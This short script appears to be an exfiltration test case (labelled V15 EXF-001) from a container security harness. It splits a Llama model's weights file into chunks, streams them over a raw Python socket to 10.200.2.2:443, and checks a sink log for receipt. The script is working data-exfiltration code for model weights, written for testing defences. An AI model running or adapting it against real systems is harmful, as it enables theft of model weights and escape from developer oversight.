# V15 EXF-001: split the weights into parts, send the parts over a raw socket from python
ctr_run simctr-infer-v15 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  mkdir -p /tmp/v15 && split -b 2M $0/models/llama-3-8b-instruct/model-00001-of-00001.safetensors /tmp/v15/part.
  python3 -c "
import glob, socket
s = socket.create_connection((\"10.200.2.2\", 443)); n = 0
for p in sorted(glob.glob(\"/tmp/v15/part.*\")):
    d = open(p, \"rb\").read(); s.sendall(d); n += len(d)
s.close(); print(\"sent\", n)"
  rm -rf /tmp/v15' "$H"
grep ':443' "$H/sink.log" | tail -1
